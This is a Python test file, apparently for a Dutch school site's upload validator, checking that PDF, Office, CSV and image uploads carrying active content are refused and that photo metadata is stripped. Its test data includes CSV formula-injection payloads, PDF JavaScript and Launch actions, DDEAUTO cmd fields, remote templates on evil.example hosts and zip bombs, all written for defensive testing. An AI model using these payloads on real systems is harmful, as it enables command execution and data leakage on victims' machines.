"""What is taken and what is refused, told by content."""

import zlib
from contextlib import suppress
from io import BytesIO
from random import Random
from time import process_time

import pytest
from django.core.exceptions import ValidationError
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from showcase.domain.pictures import clean_image
from showcase.domain.uploads import check_document, tidy_name
from tests.showcase.files.samples import (
    MAIN,
    PDF,
    docx,
    huge_png,
    object_stream,
    odt,
    packed,
    pdf_with,
    photo,
    relations,
    streams_in_streams,
    upload,
)

SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
ESCAPED = b"<</S/J#61vaScri#70t/JS(app.alert(1))>>"
LINKED = "word/_rels/settings.xml.rels"


def _behind_empty_blocks(objects: bytes) -> bytes:
    pressed = zlib.compress(objects)
    return pressed[:2] + b"\0\0\0\xff\xff" * 2_000 + pressed[2:]


EMPTY_BLOCKS_FIRST = _behind_empty_blocks(b"7 0 8 40 " + SCRIPT)


def field(*pieces: str) -> bytes:
    """A field of Word, its words cut in pieces."""
    words = "".join(f"<w:instrText>{piece}</w:instrText>" for piece in pieces)
    return f"<w:r><w:fldChar w:fldCharType='begin'/>{words}</w:r>".encode()


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("verslag.pdf", PDF, "pdf"),
        ("verslag.DOCX", docx(), "docx"),
        ("verslag.odt", odt(), "odt"),
        ("tabel.csv", "naam;aantal\nélan;3\n".encode("cp1252"), "csv"),
        ("tekst.txt", b"Gewone tekst.\n", "txt"),
    ],
)
def test_document_is_known_by_its_content(name, content, kind):
    assert check_document(upload(name, content)) == kind


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("leeg.pdf", b"", "leeg"),
        ("pagina.pdf", b"<html><script>alert(1)</script></html>", "iets anders"),
        ("voor.pdf", b"<html>" + PDF, "iets anders"),
        ("twee.pdf", PDF + docx(), "niet heel"),
        ("half.pdf", b"%PDF-1.7\n1 0 obj", "niet heel"),
        (
            "script.pdf",
            PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript>>"),
            "programma",
        ),
        ("tekening.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "iets anders"),
        ("tekst.txt", b"<?xml version='1.0'?><svg/>", "iets anders"),
        ("programma.txt", b"MZ\x00\x00\x01", "iets anders"),
        ("oud.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "oude Office"),
        ("macro.docx", docx(**{"word/vbaProject.bin": b"x"}), "macro"),
        ("macro.docx", docx(**{"word/embeddings/extra.xlsm": b"x"}), "macro"),
        ("bom.docx", docx(**{"word/media/a": b"\0" * 60_000_000}), "veel te groot"),
        ("veel.docx", docx(**{f"word/{n}": b"" for n in range(5_001)}), "veel te groot"),
        ("pak.zip", packed({"a.txt": b"a"}), "ingepakt"),
        ("kapot.docx", docx()[:60], "beschadigd"),
        ("verslag.pdf", docx(), "“.docx”"),
        ("verslag.docx", PDF, "“.pdf”"),
    ],
)
def test_document_that_pretends_or_acts_is_refused_in_words(name, content, words):
    with pytest.raises(ValidationError) as refused:
        check_document(upload(name, content))

    (message,) = refused.value.messages
    assert words in message


@pytest.mark.parametrize(
    "content",
    [
        b"naam;aantal\n=cmd|' /C calc'!A0;3\n",
        b'a,"=WEBSERVICE(""http://x.example"")"\n',
        b"a\t@SUM(A1)\n",
        b"a;=1+cmd|' /C calc'!A0\n",
        b"a;-1+webservice(A1)\n",
        b"+cmd|' /C calc'!A0\n",
        b"-leerling(en)+webservice(A1)\n",
        b"-webservice(rc)\n",
        b"=leerling(en)\n",
        b"ID;PWXL;N;E\nC;Y1;X1;EWEBSERVICE()\n",
    ],
)
@pytest.mark.parametrize("name", ["tabel.csv", "tabel.txt"])
def test_table_with_a_formula_is_refused(name, content):
    with pytest.raises(ValidationError, match="begint een cel met een formule"):
        check_document(upload(name, content))


@pytest.mark.parametrize(
    "cell",
    [
        '+A1&WEBSERVICE("http://evil.example/"&B1)',
        "+(WEBSERVICE(A1))",
        "+ WEBSERVICE(A1)",
        '+ WEBSERVICE ("http://evil.example")',
        "-B2+HYPERLINK(A1)",
        "+$A$1&WEBSERVICE(A1)",
        "+1&WEBSERVICE(A1)",
        "+2^WEBSERVICE(A1)",
        "+LOG10(1)&WEBSERVICE(A1)",
        "@A1&WEBSERVICE(A1)",
        '"+""x""&WEBSERVICE(A1)"',
        '"+""x;y,z""&WEBSERVICE(A1)"',
        '"=""x""&WEBSERVICE(A1)"',
        '"+A1"&WEBSERVICE(A1)',
        '""+WEBSERVICE(A1)',
        "+{1.2}&een WEBSERVICE(A1)",
        "+'http://evil.example/[x.xlsx]S'!A1",
        "+[x.xlsx]S!$A$1",
        "+'http://evil.example/x.ods'#$S.A1",
        f"+cmd|'/C calc {'x' * 200}'!A0",
        " =1+1",
        "\u00a0=1+1",
        "\u200b=1+1",
        "\uff1d1+1",
    ],
)
@pytest.mark.parametrize("line", ["{}\n", "naam;aantal\n12;{}\n", "12,{}", "12\t{}\tx"])
def test_formula_is_refused_however_it_begins(cell, line):
    with pytest.raises(ValidationError, match="begint een cel met een formule"):
        check_document(upload("tabel.csv", line.format(cell).encode()))


@pytest.mark.parametrize(
    "content",
    ["+{1,2}&LOG10(A1);3\n", "+{1;2}&LOG10(A1),3\n", "sep=|\n12| =1+1\n", "\ufeff=1+1\n"],
)
def test_formula_is_refused_however_the_file_is_cut(content):
    with pytest.raises(ValidationError, match="begint een cel met een formule"):
        check_document(upload("tabel.csv", content.encode()))


@pytest.mark.parametrize(
    "cell",
    [
        "-5",
        "-3,5",
        "+32 2 123",
        "+32 (0)2 219 42 99",
        "-leerling(en)",
        "- leerling(en/-groepen) van de ICT-coördinator(m/v)",
        "- foto('s) en image(s)",
        "- zie f(x) = 2x van STEM(3)",
        "- Klassenraad (4de jaar), zaal (A1)",
        "- hyperlink (zie de site)",
        "- [x] klaar!",
        "- 'De Brug'! en c:\\map",
        "-A1",
        "@school",
        "=> zie website(s)",
        "====",
        '="001"',
        '"=""001"""',
        "'=1+1",
        "-;functie(s)",
        "5 =1+1",
    ],
)
@pytest.mark.parametrize("line", ["{}\n", "naam;aantal\n12;{};3\n"])
def test_cell_that_only_looks_like_a_formula_is_taken(cell, line):
    assert check_document(upload("tabel.csv", line.format(cell).encode())) == "csv"


@pytest.mark.parametrize("piece", [';"+;""+', "+;|", "-[", "-'/", '"-""', "- (", "; ", "-a.("])
@pytest.mark.slow
def test_table_of_megabytes_is_read_once(piece):
    content = (piece * 400_000)[:400_000].encode()
    began = process_time()

    with suppress(ValidationError):
        check_document(upload("tabel.csv", content))

    assert process_time() - began < 3


@pytest.mark.parametrize("name", ["lijst.txt", "lijst.csv"])
def test_words_with_their_ending_between_brackets_are_no_formula(name):
    content = b"-leerling(en)\n-leerling(en) en ouder(s);-stagiair(e)\n+school(scholen)\n"

    assert check_document(upload(name, content)) == name[-3:]


def test_table_with_numbers_phones_and_lists_is_taken():
    content = b"a;-3,5\nb;+32 2 219 42 99\nc;@school\n- een lijst\n-punt\n====\n"

    assert check_document(upload("tabel.csv", content)) == "csv"


@pytest.mark.parametrize(
    "content",
    [
        pdf_with(b"5 0 obj", ESCAPED, b"endobj\n"),
        pdf_with(b"5 0 obj<</S %x\n/Launch/F(cmd.exe)>>endobj\n"),
        pdf_with(b"5 0 obj<</S/SubmitForm/F(http://x.example)>>endobj\n"),
        pdf_with(b"5 0 obj<</Type/EmbeddedFile>>endobj\n"),
        pdf_with(b"5 0 obj<</S /GoToR /F (\\\\\\\\evil\\\\x.pdf)>>endobj\n"),
        pdf_with(b"5 0 obj<</S\n/Thread /F (x.pdf)>>endobj\n"),
        pdf_with(b"5 0 obj<</F << /FS /URL /F (http://x.example) >> >>endobj\n"),
        pdf_with(b"5 0 obj<</Subtype/Form/Ref << /F (x.pdf) /Page 0 >> >>endobj\n"),
        pdf_with(object_stream(SCRIPT)),
        pdf_with(object_stream(ESCAPED)),
        pdf_with(object_stream(ESCAPED, name=b"/Obj#53tm")),
        pdf_with(object_stream(SCRIPT, name=b"/Geen")),
        pdf_with(object_stream(b" " * 200_000 + SCRIPT)),
        pdf_with(object_stream(SCRIPT, name=b"/ObjStm" + b" " * 2_100)),
        pdf_with(object_stream(b"", packed=EMPTY_BLOCKS_FIRST)),
        pdf_with(object_stream(b"", name=b"/Geen", packed=EMPTY_BLOCKS_FIRST)),
        pdf_with(object_stream(b"", name=b"/ObjStm" + b" " * 2_100, packed=EMPTY_BLOCKS_FIRST)),
    ],
    ids=range(17),
)
def test_pdf_that_acts_is_refused_however_it_is_written_down(content):
    with pytest.raises(ValidationError, match="een programma, een bijlage of een medium"):
        check_document(upload("verslag.pdf", content))


#: An action that opens a web address, as it stands in a file and as an object with number 5.
OPENS = b"<</Type/Action/S /URI/URI(http://x.example)>>"
ACTION = b"5 0 obj" + OPENS + b"endobj\n"
FIVE_IN_A_STREAM = zlib.compress(b"4 0 5 4  null" + OPENS)


def opened_by(catalogue: bytes, *bodies: bytes) -> bytes:
    """A PDF with this in its catalogue."""
    return pdf_with(*bodies).replace(b"/Catalog", b"/Catalog" + catalogue)


@pytest.mark.parametrize(
    "content",
    [
        opened_by(b"/OpenAction" + OPENS),
        opened_by(b"/Open#41ction %x\n" + OPENS.replace(b"/URI/", b"/U#52I/")),
        opened_by(b"/OpenAction 5 0 R", ACTION),
        opened_by(b"/OpenAction 5 %x\n0 R", ACTION),
        opened_by(b"/AA<</WC 5 0 R>>", ACTION),
        opened_by(b"/AA 8 0 R", ACTION, b"8 0 obj<</O 5 0 R>>endobj\n"),
        pdf_with(b"3 0 obj<</Type/Page/AA<</O" + OPENS + b">>>>endobj\n"),
        opened_by(b"/OpenAction<</X(>>)/S/URI/URI(http://x.example)>>"),
        opened_by(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 5 0 R>>", ACTION),
        opened_by(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[6 0 R 5 0 R]>>", ACTION),
        opened_by(b"/OpenAction<</S 9 0 R/URI(http://x.example)>>", b"9 0 obj/URI endobj\n"),
        opened_by(b"/OpenAction 5 0 R", object_stream(b"", packed=FIVE_IN_A_STREAM)),
        opened_by(
            b"/OpenAction 5 0 R",
            object_stream(b"", packed=FIVE_IN_A_STREAM).replace(b"/First 9", b"/First 9/First 8"),
        ),
        pdf_with(object_stream(b"<</Type/Catalog/OpenAction" + OPENS + b">>")),
        opened_by(
            b"/OpenAction 5 0 R",
            object_stream(b"", packed=zlib.compress(b"4 0 %1\n5 4 null" + OPENS)).replace(
                b"/First 9", b"/First 11"
            ),
        ),
        opened_by(
            b"/OpenAction 5 0 R",
            object_stream(b"", packed=zlib.compress(b"4 0 5 0" + OPENS)).replace(
                b"/First 9", b"/First 7"
            ),
        ),
    ],
    ids=range(16),
)
def test_pdf_that_opens_an_address_by_itself_is_refused(content):
    with pytest.raises(ValidationError, match="opent zelf een webadres"):
        check_document(upload("verslag.pdf", content))


@pytest.mark.parametrize(
    "content",
    [
        opened_by(b"/OpenAction[3 0 R/FitH null]", ACTION),
        opened_by(b"/OpenAction 4 0 R", b"4 0 obj<</S/GoTo/D[5 0 R/Fit]>>endobj\n", ACTION),
        opened_by(b"/OpenAction 4 0 R", object_stream(b"", packed=FIVE_IN_A_STREAM)),
        pdf_with(b"7 0 obj<</Subtype/Link/A" + OPENS + b">>endobj\n"),
        opened_by(b"/AA<</O<</S/Named/N/Print>>>>", ACTION),
    ],
    ids=["place", "page", "packed", "link", "print"],
)
def test_pdf_that_shows_a_page_and_holds_links_is_taken(content):
    assert check_document(upload("verslag.pdf", content)) == "pdf"


def test_pdf_with_endless_actions_is_refused_before_it_costs_minutes():
    content = opened_by(b"/OpenAction<</S/GoTo" + b"/Next<<" * 40_000 + b">>" * 40_001)
    began = process_time()

    with pytest.raises(ValidationError, match="niet nakijken"):
        check_document(upload("verslag.pdf", content))

    assert process_time() - began < 3


@pytest.mark.parametrize("again", [b"1 %", b"/AA%"])
def test_pdf_that_only_costs_time_is_refused_before_it_costs_minutes(again):
    content = opened_by(b"5 0 R\n" + again * (2_000_000 // len(again)) + b"\n")
    began = process_time()

    with pytest.raises(ValidationError, match="niet nakijken"):
        check_document(upload("verslag.pdf", content))

    assert process_time() - began < 3


def test_many_actions_over_a_long_list_of_objects_are_looked_up_at_once():
    """Numbers that stand nowhere weigh nothing: each may cost no more than looking it up."""
    listed = b" ".join(b"%d 0" % number for number in range(10_000, 60_000))
    catalogue = b"".join(b"/OpenAction %d 0 R" % number for number in range(100, 600))
    content = opened_by(catalogue, object_stream(b"", packed=zlib.compress(listed + b" null")))
    began = process_time()

    assert check_document(upload("verslag.pdf", content)) == "pdf"

    assert process_time() - began < 3


@pytest.mark.parametrize(
    "listed",
    [b"6 0 " * 400_001, b"6 0 5 " + b"0" * 5_000 + b" "],
    ids=["objects", "digits"],
)
@pytest.mark.slow
def test_pdf_that_lists_more_than_any_program_is_refused(listed):
    stream = object_stream(b"", packed=zlib.compress(listed + b"null"))

    with pytest.raises(ValidationError, match="niet nakijken"):
        check_document(upload("verslag.pdf", opened_by(b"/OpenAction 5 0 R", stream)))


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (pdf_with(object_stream(b"", packed=b"AAAA")), "niet nakijken"),
        (pdf_with(object_stream(SCRIPT).replace(b"/Filter", b"/Filter/A85/F")), "niet nakijken"),
        (pdf_with(object_stream(b" " * 70_000_000)), "niet nakijken"),
        (PDF.replace(b"/Root", b"/Encrypt 9 0 R/Root"), "beveiligd"),
        (pdf_with(object_stream(SCRIPT, name=b"/ObjStm/X(endstream stream\n)")), "niet nakijken"),
    ],
    ids=["damaged", "other-packing", "bomb", "locked", "false-end"],
)
def test_pdf_that_cannot_be_looked_into_is_refused(content, words):
    with pytest.raises(ValidationError, match=words):
        check_document(upload("verslag.pdf", content))


def test_pdf_of_streams_in_streams_is_refused_before_it_costs_minutes():
    """Each stays below what one may cost; together they read the file hundreds of times."""
    with pytest.raises(ValidationError, match="niet nakijken"):
        check_document(upload("verslag.pdf", streams_in_streams(900_000)))


@pytest.mark.slow
def test_pdf_with_a_large_object_stream_is_read_once():
    """Megabytes that hardly got smaller take no longer than they weigh."""
    noise = Random(1).randbytes(24_000_000).replace(b"#", b"-")
    content = pdf_with(object_stream(b"", packed=zlib.compress(b"7 0 8 40 " + noise, 0)))
    began = process_time()

    assert check_document(upload("verslag.pdf", content)) == "pdf"

    assert process_time() - began < 6


def test_ordinary_pdf_is_taken_with_links_text_and_object_streams():
    """A lesson about JavaScript acts no more than any other."""
    text = zlib.compress(b"1 0 0 1 72 720 cm BT (HTML /JavaScript) Tj ET")
    page = b"9 0 obj<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream endobj\n"
    photo_of_page = b"9 0 obj<</Filter/DCTDecode>>stream\r\n\xff\xd8\xff\xe0\r\nendstream endobj\n"
    link = b"<</S/URI/URI(https://www.vlor.be/#61)>> <</S/GoTo/D[1 0 R/Fit]>>"
    content = pdf_with(object_stream(link), page % (len(text), text), photo_of_page)

    assert check_document(upload("verslag.pdf", content)) == "pdf"


@pytest.mark.parametrize(
    ("parts", "words"),
    [
        ({LINKED: relations("attachedTemplate", "https://x.example/t.dotm")}, "andere plaats"),
        ({LINKED: relations("image", "\\\\server\\foto.png")}, "andere plaats"),
        ({LINKED: relations("oleObject", "file://server/x")}, "andere plaats"),
        ({LINKED: b"<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"}, "beschadigd"),
        ({"xl/externalLinks/externalLink1.xml": b'<ddeLink ddeService="cmd"/>'}, "macro"),
        ({"content.xml": b"<x><script:event-listener/></x>"}, "macro"),
        *(
            ({LINKED: relations("attachedTemplate", target)}, "andere plaats")
            for target in (
                "file:///\\\\evil\\share\\x.dotm",
                "file:////evil/share/x.dotm",
                "webdav://evil/x",
                "%68ttp://evil/x",
                "file:///C:\\\\evil",
                "\\\\?\\UNC\\evil\\x",
            )
        ),
        ({"word/a.xml": field("DDEAUTO c:\\\\cmd.exe")}, "macro"),
        ({"word/a.xml": field("dde", "auto cmd")}, "macro"),
        ({"word/a.bin": b"<?xml version='1.0'?>" + field("DDEAUTO cmd")}, "macro"),
        ({"word/a.xml": field(" INCLUDEPICTURE &quot;http://evil/x.png&quot;")}, "andere plaats"),
        ({"word/a.xml": b"<p><w:fldSimple w:instr='INCLUDETEXT x'/></p>"}, "andere plaats"),
        ({"xl/a.xml": b"<c><f>_xlfn.WEBSERVICE(A1)</f></c>"}, "macro"),
    ],
)
def test_office_document_that_fetches_or_acts_when_opened_is_refused(parts, words):
    with pytest.raises(ValidationError, match=words):
        check_document(upload("verslag.docx", docx(**parts)))


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"<d><draw:image xlink:href='http://evil/x.png'/></d>", "andere plaats"),
        (b"<d><draw:image z:href='//evil/x.png'/></d>", "andere plaats"),
        (b"<d><text:section-source xlink:href='file://evil/x.odt'/></d>", "andere plaats"),
        (b"<d><office:dde-source office:dde-application='cmd'/></d>", "macro"),
        (b"<d><table:table-cell table:formula='of:=DDE(1;2)'/></d>", "macro"),
        (b"<d><c table:formula='of:=COM.MICROSOFT.WEBSERVICE(A1)'/></d>", "macro"),
    ],
)
def test_open_document_that_fetches_or_acts_when_opened_is_refused(content, words):
    with pytest.raises(ValidationError, match=words):
        check_document(upload("verslag.odt", odt(content)))


def test_open_document_with_links_to_click_and_own_pictures_is_taken():
    content = (
        b"<d><text:a xlink:href='https://www.vlor.be'/><draw:a xlink:href='mailto:a@b.example'/>"
        b"<draw:image xlink:href='Pictures/10.png'/><draw:object xlink:href='./Object 1'/>"
        b"<c table:formula='of:=SUM([.A1:.A9])'/>DDE(</d>"
    )

    assert check_document(upload("verslag.odt", odt(content))) == "odt"


def test_office_document_with_ordinary_fields_is_taken():
    words = field("HYPERLINK &quot;https://x.example/DDEAUTO&quot;") + field("PAGE") + field("TOC")
    content = docx(**{"word/a.xml": b"<d>" + words + b"</d>"})

    assert check_document(upload("verslag.docx", content)) == "docx"


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("hyperlink", "https://www.vlor.be"),
        ("attachedTemplate", "file:///C:\\Sjablonen\\School.dotx"),
        ("externalLinkPath", "Punten%202024.xlsx"),
    ],
)
def test_office_document_with_links_to_click_or_an_own_template_is_taken(kind, target):
    content = docx(**{LINKED: relations(kind, target)})

    assert check_document(upload("verslag.docx", content)) == "docx"


def test_document_with_a_macro_type_is_refused():
    types = (
        b'<Types><Override ContentType="application/vnd.ms-word.macroEnabled.main+xml"/></Types>'
    )

    with pytest.raises(ValidationError, match="macro"):
        check_document(upload("m.docx", packed({"[Content_Types].xml": types})))


@pytest.mark.slow
def test_archive_that_lies_about_its_size_is_measured(monkeypatch):
    """The sizes in the headers say little; what comes out counts."""
    content = bytearray(docx(**{"word/media/a": b"\0" * 60_000_000}))
    for at in range(len(content) - 4):
        if content[at : at + 4] == (60_000_000).to_bytes(4, "little"):
            content[at : at + 4] = (10).to_bytes(4, "little")

    with pytest.raises(ValidationError, match="veel te groot"):
        check_document(upload("bom.docx", bytes(content)))


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("Verslag Élan (def).PDF", "verslag-elan-def.pdf"),
        ("../../etc/passwd.txt", "passwd.txt"),
        ("c:\\map\\Foto 1.jpg", "foto-1.jpg"),
        ("..pdf", "bestand.pdf"),
        ("a" * 200 + ".pdf", "a" * 80 + ".pdf"),
    ],
)
def test_file_gets_a_tidy_name(given, kept):
    assert tidy_name(given) == kept


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_photo_loses_place_and_device_and_stands_upright(fmt):
    cleaned = clean_image(upload("Foto van de klas.jpg", photo(fmt, place=True)))

    with Image.open(BytesIO(cleaned.read())) as kept:
        assert (kept.format, kept.size) == (fmt, (40, 60))
        assert dict(kept.getexif()) == {}
        assert {"exif", "xmp", "comment", "XML:com.adobe.xmp"}.isdisjoint(kept.info)
    assert (
        cleaned.name == f"foto-van-de-klas.{ {'JPEG': 'jpg', 'PNG': 'png', 'WEBP': 'webp'}[fmt] }"
    )


def written(fmt: str, image: Image.Image, **how: object) -> bytes:
    out = BytesIO()
    image.save(out, format=fmt, **how)
    return out.getvalue()


def long_words() -> PngInfo:
    words = PngInfo()
    words.add_text("Comment", "x" * 2_000_000, zip=True)
    return words


def plain(mode: str) -> Image.Image:
    return Image.new("RGB", (60, 40), (200, 30, 30)).convert(mode)


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (
            written("MPO", plain("RGB"), save_all=True, append_images=[plain("L")]),
            ("JPEG", "RGB", (60, 40)),
        ),
        (written("JPEG", plain("CMYK"), icc_profile=b"cmyk"), ("JPEG", "RGB", (60, 40))),
        (written("PNG", plain("P"), transparency=0), ("PNG", "P", (60, 40))),
        (written("PNG", plain("LA")), ("PNG", "LA", (60, 40))),
        (written("PNG", plain("1")), ("PNG", "1", (60, 40))),
        (written("PNG", Image.new("I;16", (60, 40), 40_000)), ("PNG", "L", (60, 40))),
        (
            written("WEBP", plain("RGB"), save_all=True, append_images=[plain("L").convert("RGB")]),
            ("WEBP", "RGB", (60, 40)),
        ),
    ],
    ids=["two-in-one", "printed", "palette", "grey-see-through", "ink", "deep", "moving"],
)
def test_photo_of_any_camera_or_program_is_kept_as_one_still_picture(content, kind):
    cleaned = clean_image(upload("foto.jpg", content))

    with Image.open(BytesIO(cleaned.read())) as kept:
        kept.load()
        assert (kept.format, kept.mode, kept.size) == kind
        assert getattr(kept, "n_frames", 1) == 1
        assert "icc_profile" not in kept.info


def test_deep_grey_keeps_its_light():
    cleaned = clean_image(upload("scan.png", written("PNG", Image.new("I;16", (4, 4), 40_000))))

    with Image.open(BytesIO(cleaned.read())) as kept:
        assert kept.getpixel((0, 0)) == 156


@pytest.mark.parametrize("orientation", range(1, 9))
def test_photo_stands_upright_however_the_camera_was_held(orientation):
    """The dark corner is at the top left, for who looks."""
    upright = Image.new("L", (40, 24), 255)
    upright.paste(0, (0, 0, 16, 8))
    turned = {2: 0, 3: 3, 4: 1, 5: 5, 6: 2, 7: 6, 8: 4}
    held = upright if orientation == 1 else upright.transpose(turned[orientation])
    exif = Image.Exif()
    exif[0x0112] = orientation

    cleaned = clean_image(upload("foto.png", written("PNG", held, exif=exif)))

    with Image.open(BytesIO(cleaned.read())) as kept:
        assert kept.size == (40, 24)
        assert (kept.getpixel((4, 4)), kept.getpixel((36, 20))) == (0, 255)


def test_photo_loses_place_words_and_what_hangs_behind_it():
    """Place also stands in XMP and IPTC, in a comment, or in a film behind the photo."""
    secret = b"51.05N 3.72E Gent"
    iptc = b"Photoshop 3.0\x008BIM\x04\x04\x00\x00\x00\x00\x00\x16\x1c\x02\x5a\x00\x11" + secret
    marker = b"\xff\xed" + (len(iptc) + 2).to_bytes(2, "big") + iptc
    content = written("JPEG", plain("RGB"), xmp=b"<x:xmpmeta>" + secret, comment=secret)
    content = content[:2] + marker + content[2:] + secret
    png = PngInfo()
    png.add_text("Location", secret.decode())
    png.add_itxt("XML:com.adobe.xmp", secret.decode())

    for sent in (content, written("PNG", plain("RGB"), pnginfo=png)):
        assert secret in sent
        assert secret not in clean_image(upload("foto.jpg", sent)).read()


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "leeg"),
        (huge_png(), "beeldpunten"),
        (photo(size=(10_001, 2)), "beeldpunten"),
        (b"\x00\x00\x00\x18ftypheic" + b"\0" * 50, "HEIC"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "JPEG, PNG of WebP"),
        (b"GIF89a" + b"\0" * 50, "JPEG, PNG of WebP"),
        (photo()[:300], "JPEG, PNG of WebP"),
        (photo("PNG")[:90], "JPEG, PNG of WebP"),
        (photo("WEBP")[:60], "JPEG, PNG of WebP"),
        (b"\x00\x00\x00\x18ftyphevx" + b"\0" * 50, "HEIC"),
        (b"\x00\x00\x00\x18ftypisom" + b"\0" * 50, "JPEG, PNG of WebP"),
        (written("GIF", plain("P"), save_all=True, append_images=[plain("1")]), "JPEG"),
        (written("PNG", plain("RGB"), pnginfo=long_words()), "JPEG, PNG of WebP"),
    ],
)
def test_photo_that_is_none_or_too_large_is_refused_in_words(content, words):
    with pytest.raises(ValidationError) as refused:
        clean_image(upload("foto.jpg", content))

    (message,) = refused.value.messages
    assert words in message


TYPES = "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>{}</Types>"


def kinds(*content_types: str) -> dict[str, bytes]:
    rows = "".join(
        f'<Override PartName="/word/p{n}.xml" ContentType="{kind}"/>'
        for n, kind in enumerate((MAIN, *content_types))
    )
    return {"[Content_Types].xml": TYPES.format(rows).encode()}


@pytest.mark.parametrize(
    ("parts", "words"),
    [
        (kinds("application/vnd.ms-office.vbaP&#114;oject"), "macro"),
        (kinds("application/vnd.ms-excel.macrosheet+xml"), "macro"),
        (kinds("application/vnd.ms-word.document.macroEn&#97;bled.main+xml"), "macro"),
        ({LINKED: relations("x/vbaProject", "macro.bin")}, "macro"),
        ({LINKED: relations("x/hyperlink", "https://elders.example/")}, "haalt iets op"),
        ({LINKED: relations("connections", "connections.xml")}, "haalt iets op"),
        ({LINKED: relations("video", r"\\elders.example\film.mp4")}, "haalt iets op"),
        ({LINKED: relations("audio", "file://///elders.example/lied.mp3")}, "haalt iets op"),
        ({"word/a.xml": b"<d><w:altChunk r:id='r1'/></d>"}, "macro"),
        ({"word/a.xml": b"<d><definedName>WEBSERVICE(1)</definedName></d>"}, "macro"),
    ],
)
def test_office_document_that_hides_what_it_starts_is_refused(parts, words):
    with pytest.raises(ValidationError, match=words):
        check_document(upload("verslag.docx", docx(**parts)))


@pytest.mark.parametrize(
    "parts",
    [
        {LINKED: relations("hyperlink", "https://elders.example/")},
        {LINKED: relations("video", "https://elders.example/film.mp4")},
        kinds("image/png"),
    ],
)
def test_office_document_that_waits_for_a_click_is_taken(parts):
    check_document(upload("verslag.docx", docx(**parts)))


@pytest.mark.parametrize(
    "content",
    [
        b"<o><office:script/></o>",
        b"<o><text:script>x</text:script></o>",
        b"<o><table:named-expression table:expression='of:=WEBSERVICE(1)'/></o>",
    ],
)
def test_open_document_with_a_program_is_refused(content):
    with pytest.raises(ValidationError, match="macro"):
        check_document(upload("verslag.odt", odt(content)))


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100


def sheets(**parts: bytes) -> bytes:
    """A workbook, as it stands behind a graph in a report."""
    return packed({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>", **parts})


def wrapped(content: bytes, times: int) -> bytes:
    for _time in range(times):
        content = docx(**{"word/embeddings/a.docx": content})
    return content


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (docx(**{"word/embeddings/oleObject1.bin": OLE}), "ingesloten object"),
        (docx(**{"word/media/foto.png": OLE}), "ingesloten object"),
        (docx(**{"word/e.xlsx": sheets(**{"xl/embeddings/a.bin": OLE})}), "ingesloten object"),
        (docx(**{"word/e.xlsx": sheets(**{"xl/vbaProject.bin": b"x"})}), "macro"),
        (docx(**{"word/e.bin": sheets(**{"xl/s.xml": b"<f>RTD(1)</f>"})}), "macro"),
        (docx(**{"word/e.xlsx": packed(kinds("x.macroEnabled"))}), "macro"),
        (docx(**{"word/e.xlsx": packed({LINKED: relations("image", "http://x")})}), "haalt iets"),
        (docx(**{"word/e.xlsx": b"PK\x03\x04geen"}), "beschadigd"),
        (docx(**{"word/embeddings/start.lnk": b"x"}), "macro"),
        (wrapped(sheets(**{"xl/vbaProject.bin": b"x"}), 2), "macro"),
        (wrapped(docx(), 3), "veel te groot"),
        (
            docx(**{f"word/{n}.xlsx": sheets(**{"xl/a": b"\0" * 19_000_000}) for n in range(2)}),
            "veel te groot",
        ),
        (
            docx(**{f"word/{n}.xlsx": packed({str(i): b"" for i in range(900)}) for n in range(6)}),
            "veel te groot",
        ),
    ],
    ids=range(13),
)
@pytest.mark.slow
def test_document_that_holds_another_is_looked_into(content, words):
    with pytest.raises(ValidationError, match=words):
        check_document(upload("verslag.docx", content))


@pytest.mark.parametrize(
    "content",
    [
        docx(**{"word/embeddings/Microsoft_Excel_Sheet.xlsx": sheets()}),
        docx(**{"word/e.bin": b"\xd0\xcf", "xl/printerSettings1.bin": b"\0P\0D\0F"}),
        wrapped(sheets(), 2),
    ],
    ids=["graph", "printer", "deep"],
)
def test_document_with_the_sheet_behind_a_graph_is_taken(content):
    assert check_document(upload("verslag.docx", content)) == "docx"


@pytest.mark.parametrize(
    ("formula", "words"),
    [
        ('cmd|"/C calc"!A0', "macro"),
        ("cmd|'/C calc'!A0", "macro"),
        ("'cmd'|'/C calc'!A0", "macro"),
        ("T['#x]+cmd|'/C calc'!A0", "macro"),
        ('CALL("Shell32",1)', "macro"),
        ("REGISTER.ID(1)", "macro"),
        ("'https://evil.example/[x.xlsx]S'!A1", "andere plaats"),
        ("SUM('\\\\evil\\[x.xlsx]S'!A1)", "andere plaats"),
        ("T['#x]+'https://evil.example/[x.xlsx]S'!A1", "andere plaats"),
        ("'https://evil.example/d''x/[x.xlsx]S'!A1", "andere plaats"),
    ],
)
@pytest.mark.parametrize("element", ["f", "definedName", "formula1"])
def test_formula_of_a_workbook_that_asks_elsewhere_is_refused(formula, words, element):
    part = f"<c><{element}>{formula}</{element}></c>".encode()

    with pytest.raises(ValidationError, match=words):
        check_document(upload("verslag.docx", docx(**{"xl/a.xml": part})))


@pytest.mark.parametrize(
    "formula",
    [
        "SUM('Jan:Mar'!A1,'[1]Jan:Mar'!A2,'a|b'!A3)",
        'A1&amp;"|"&amp;\'Blad 2\'!A1&amp;"!"',
        'HYPERLINK("https://www.vlor.be","lees | meer!")',
        "'C:\\Punten\\[2024.xlsx]Blad1'!$A$1",
